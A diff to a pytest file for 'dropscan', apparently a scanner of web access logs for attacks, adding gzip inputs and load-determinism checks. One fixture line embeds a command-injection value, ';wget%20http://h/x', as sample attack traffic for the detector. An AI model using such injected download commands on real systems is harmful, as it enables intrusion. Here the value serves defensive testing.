@@ -4,15 +4,17 @@ Each run is a fresh ``dropscan scan`` process, as a user starts it, so every wor
 first attack line cold and compiles the patterns it needs there (they once compiled inside a
 wall-clock budget, and a busy machine lost that line; no clock is read now). The log is half
 attack lines, so that every byte range a worker gets starts with attacks, and holds lines that
-reach the deterministic bounds (the matching budget, a field cut at MAX_FIELD). It is scanned
-with ``--jobs 1``, ``--jobs N`` and ``--engine dask`` (a LocalCluster of its own), once on a
-quiet machine and once with every core kept busy by spinning processes this test starts and
-kills; all runs must give byte-identical findings, summaries and exit codes.
+reach the deterministic bounds (the matching budget, a field cut at MAX_FIELD). It is scanned,
+plain and gzip-compressed, with ``--jobs 1``, ``--jobs N`` and ``--engine dask`` (a
+LocalCluster of its own), once on a quiet machine and once with every core kept busy by
+spinning processes this test starts and kills; all runs must give byte-identical findings,
+summaries and exit codes (the ``.gz`` the same as the plain file's, but for the file's name).
 Nothing here reads a clock to decide anything.
 """
 
 from __future__ import annotations
 
+import gzip
 import json
 import os
 import subprocess
@@ -24,10 +26,12 @@ from conftest import combined_line
 from dropscan.detect.decode import MAX_FIELD
 from dropscan.engine import default_signatures
 
-# a fresh process whose engine splits even this small file into three byte ranges
+# a fresh process whose engine splits even this small file into three byte ranges, and reads
+# in chunks of 64 KiB (so that the .gz, decompressed by the parent, goes to the workers in pieces)
 PRELUDE = (
     "import dropscan.engine as e, dropscan.sources.files as s; e.POOL_MIN_BYTES = 0; "
     "e.split_ranges = lambda size, *_: s.split_ranges(size, 3, min_part=1); "
+    "e.read_chunks = lambda blocks, _size, *a, **k: s.read_chunks(blocks, 1 << 16, *a, **k); "
     "from dropscan.cli import main; main()"
 )
 # a busy process that ends by itself even if the teardown never runs
@@ -57,6 +61,7 @@ def log(tmp_path_factory):
             lines.append(combined_line("/?pad=" + "x" * MAX_FIELD + "&c=;wget%20http://h/x"))  # cut at MAX_FIELD
     p = tmp_path_factory.mktemp("load") / "access.log"
     p.write_bytes(b"".join(lines))
+    p.with_name("access.log.gz").write_bytes(gzip.compress(p.read_bytes()))
     return p
 
 
@@ -95,12 +100,18 @@ def _runs(log, tmp_path, tag: str) -> dict:
 
 
 @pytest.mark.slow
-def test_the_same_findings_quiet_and_under_load(log, tmp_path, request):
-    quiet = _runs(log, tmp_path, "quiet")
+@pytest.mark.parametrize("name", ["access.log", "access.log.gz"])
+def test_the_same_findings_quiet_and_under_load(log, tmp_path, request, name):
+    path = log.with_name(name)
+    quiet = _runs(path, tmp_path, "quiet")
     request.getfixturevalue("busy_cores")  # from here on every core is busy
-    loaded = _runs(log, tmp_path, "loaded")
+    loaded = _runs(path, tmp_path, "loaded")
     runs = {**quiet, **loaded}
     code, stdout, summary = runs["quiet-jobs-1"]
+    if path != log:  # the same as the plain file's, but for the file's name
+        plain = run(log, tmp_path, "plain", *ENGINES["jobs-1"])
+        assert (code, stdout.replace(name, "access.log"), summary["totals"]) == (plain[0], plain[1], plain[2]["totals"])
+        assert {**summary["files"][0], "path": None} == {**plain[2]["files"][0], "path": None}
     findings = [json.loads(x) for x in stdout.splitlines()]
     # what the log holds: every attack line, the two bounds said, nothing lost
     assert code == 1 and len(findings) == 1200 + 2
